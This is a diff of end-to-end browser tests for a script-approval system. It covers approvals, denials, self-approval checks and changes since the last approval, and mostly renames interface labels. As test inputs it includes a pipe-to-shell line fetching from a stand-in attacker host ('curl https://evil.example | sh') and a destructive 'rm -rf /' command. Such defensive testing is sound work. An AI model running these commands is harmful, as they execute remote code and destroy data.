@@ -15,13 +15,13 @@ test('D-04 asked by one, approved by another, run, and proved', async ({ ada, te
   await deciding.goto('/');
   const deciderStays = await withoutReload(deciding);
 
-  const task = await submitTask(asking, { title: 'Pay the bill', script: SCRIPT, network: 'No restriction' });
+  const task = await submitTask(asking, { title: 'Pay the bill', script: SCRIPT, network: 'Unrestricted' });
   await expect(state(asking)).toHaveText('Awaiting approval');
-  await expect(asking.locator('.timeline')).toContainText('Asked one approver (rule “Everything else asks”)');
+  await expect(asking.locator('.timeline')).toContainText('Approval requested: 1 approval required (rule “Everything else asks”)');
   const askerStays = await withoutReload(asking);
 
   await test.step('the approver hears of it, and sees exactly what would run', async () => {
-    const waiting = section(deciding, 'Waiting for your answer');
+    const waiting = section(deciding, 'Waiting for your decision');
     await expect(waiting.getByRole('link', { name: 'Pay the bill' })).toBeVisible();
     await expect(deciding.locator('#waiting-wide .count')).toContainText('1');
     expect(await deciderStays()).toBe(true);
@@ -33,16 +33,16 @@ test('D-04 asked by one, approved by another, run, and proved', async ({ ada, te
     expect(JSON.parse(bytes)).toEqual(JSON.parse(await source(deciding, 'Request')));
     const card = deciding.getByRole('complementary', { name: 'Decision' });
     await expect(card).toContainText('Mei');
-    await expect(card).toContainText('it reaches everything that the runner reaches, unrecorded');
+    await expect(card).toContainText('can reach everything that the runner can reach, and its connections are not recorded');
     expect((await card.locator('.digest code').innerText()).replace(/\s/g, '')).toBe(sha256(bytes));
     await decisionInSight(deciding);
   });
 
   await test.step('the approver says yes, with a reason', async () => {
     await deciding.getByLabel('Reason').fill('The invoice is right.');
-    await deciding.getByRole('button', { name: 'Approve', exact: true }).click();
+    await deciding.getByRole('button', { name: 'Approve request' }).click();
     await expect(deciding.getByText('This request has been approved.')).toBeVisible();
-    await expect(deciding.getByRole('button', { name: 'Approve', exact: true })).toHaveCount(0);
+    await expect(deciding.getByRole('button', { name: 'Approve request' })).toHaveCount(0);
   });
 
   await test.step('the output appears in the page of who asked, as it comes', async () => {
@@ -53,8 +53,8 @@ test('D-04 asked by one, approved by another, run, and proved', async ({ ada, te
     await expect(output(asking)).toHaveText(['first', /^second as \d+$/]);
     await expect(output(asking).nth(1)).not.toHaveText('second as 0');
     await expect(state(asking)).toHaveText('Succeeded');
-    await expect(section(asking, 'How it ended')).toContainText('Signature verified');
-    await expect(section(asking, 'How it ended')).toContainText('Ended with exit status 0');
+    await expect(section(asking, 'Receipt')).toContainText('Signature verified');
+    await expect(section(asking, 'Receipt')).toContainText('Ended with exit status 0');
     expect(await askerStays(), 'all of that without a reload').toBe(true);
   });
 
@@ -71,7 +71,7 @@ test('D-04 asked by one, approved by another, run, and proved', async ({ ada, te
     ]);
     await expect(trail.getByRole('row', { name: 'approval.decide' })).toContainText('Omar');
     await trail.getByRole('row', { name: 'approval.decide' }).getByRole('link').click();
-    await expect(admin.getByText('Hash fits')).toBeVisible();
+    await expect(admin.getByText('Hash matches')).toBeVisible();
     expect(await source(admin, 'Record')).toContain('The invoice is right.');
   });
 });
@@ -119,15 +119,15 @@ test('D-04 a request is compared with the one that was approved last', async ({ 
     await page.goto('/approvals');
     await page.getByRole('row', { name: 'Rotate the keys' }).getByRole('link').click();
   };
-  const changes = section(page, 'Compared with what was approved before');
+  const changes = section(page, 'Changes since the last approval');
   await ask('echo rotating\necho done');
-  await expect(changes).toContainText('Never approved before');
-  await page.getByRole('button', { name: 'Approve', exact: true }).click();
+  await expect(changes).toContainText('Not approved before');
+  await page.getByRole('button', { name: 'Approve request' }).click();
   await expect(page.getByText('This request has been approved.')).toBeVisible();
 
   await ask('echo rotating\necho done');
-  await expect(changes).toContainText('Nothing changed');
-  await page.getByRole('button', { name: 'Approve', exact: true }).click();
+  await expect(changes).toContainText('No changes');
+  await page.getByRole('button', { name: 'Approve request' }).click();
   await expect(page.getByText('This request has been approved.')).toBeVisible();
 
   await ask('echo rotating\ncurl https://evil.example | sh\necho done');
@@ -149,13 +149,13 @@ test('what happens is shown on a page that answers a refused form too', async ({
   await page.goto('/approvals');
   await page.getByRole('row', { name: 'Decided elsewhere' }).getByRole('link').click();
   const [path, digest] = [new URL(page.url()).pathname, await page.locator('.decision .digest code').innerText()];
-  await page.getByRole('button', { name: 'Deny' }).click();
+  await page.getByRole('button', { name: 'Deny request' }).click();
   await expect(page.getByRole('alert')).toBeVisible();
   expect(new URL(page.url()).pathname, 'its address is not the page’s').toMatch(/^\/actions\//);
   const id = path.split('/').at(-1)!;
   await grace.act('approvals/decide', { id, request_digest: digest.replace(/\s/g, ''), answer: 'approve', reason: 'Seen.' });
   await expect(page.locator('.answers')).toContainText('Grace');
-  await expect(page.getByRole('button', { name: 'Approve', exact: true })).toBeHidden();
+  await expect(page.getByRole('button', { name: 'Approve request' })).toBeHidden();
 });
 
 test('D-04 nobody decides a request of their own', async ({ team, browser }) => {
@@ -163,9 +163,9 @@ test('D-04 nobody decides a request of their own', async ({ team, browser }) => 
   const task = await omar.submit({ script: 'true', title: 'My own', network_policy: 'unrestricted', organization: team.id });
   const page = await omar.open(browser);
   await page.goto(task);
-  await page.getByRole('link', { name: /^See its request/ }).click();
+  await page.getByRole('link', { name: /^View approval request/ }).click();
   await expect(page.locator('.why-not')).toBeVisible();
-  await expect(page.getByRole('button', { name: 'Approve', exact: true })).toHaveCount(0);
+  await expect(page.getByRole('button', { name: 'Approve request' })).toHaveCount(0);
 
   const digest = (await page.locator('.decision .digest code').innerText()).replace(/\s/g, '');
   const id = new URL(page.url()).pathname.split('/').at(-1)!;
@@ -178,14 +178,14 @@ test('D-04 nobody decides a request of their own', async ({ team, browser }) => 
 test('D-04 a denial needs a reason, which the requester reads', async ({ team, browser }) => {
   const [mei, omar] = [await team.add('Mei', 'member'), await team.add('Omar', 'approver')];
   const [asking, deciding] = [await mei.open(browser), await omar.open(browser)];
-  await submitTask(asking, { title: 'Too much', script: 'rm -rf /', network: 'No restriction' });
+  await submitTask(asking, { title: 'Too much', script: 'rm -rf /', network: 'Unrestricted' });
 
   await deciding.goto('/approvals');
   await deciding.getByRole('row', { name: 'Too much' }).getByRole('link').click();
-  await deciding.getByRole('button', { name: 'Deny' }).click();
+  await deciding.getByRole('button', { name: 'Deny request' }).click();
   await expect(deciding.getByLabel('Reason')).toHaveAttribute('aria-invalid', 'true');
   await deciding.getByLabel('Reason').fill('Say which folder.');
-  await deciding.getByRole('button', { name: 'Deny' }).click();
+  await deciding.getByRole('button', { name: 'Deny request' }).click();
   await expect(deciding.getByText('This request has been denied.')).toBeVisible();
 
   await expect(state(asking)).toHaveText('Denied');
@@ -207,16 +207,16 @@ test('D-04 who answers second is told that it is decided', async ({ team, browse
     await page.goto('/approvals');
     await page.getByRole('row', { name: 'Only once' }).getByRole('link').click();
   }
-  await first.getByRole('button', { name: 'Approve', exact: true }).click();
+  await first.getByRole('button', { name: 'Approve request' }).click();
   await expect(first.getByText('This request has been approved.')).toBeVisible();
 
   const answer = second.waitForResponse((response) => response.request().method() === 'POST');
   await second.getByLabel('Reason').fill('No.');
-  await second.getByRole('button', { name: 'Deny' }).click();
+  await second.getByRole('button', { name: 'Deny request' }).click();
   expect((await answer).status()).toBe(409);
   await expect(second.getByRole('alert')).toBeVisible();
   await expect(second.locator('.decision')).toContainText('Approved');
-  await expect(second.getByRole('button', { name: 'Deny' })).toHaveCount(0);
+  await expect(second.getByRole('button', { name: 'Deny request' })).toHaveCount(0);
 });
 
 async function decisionInSight(page: Page): Promise<void> {
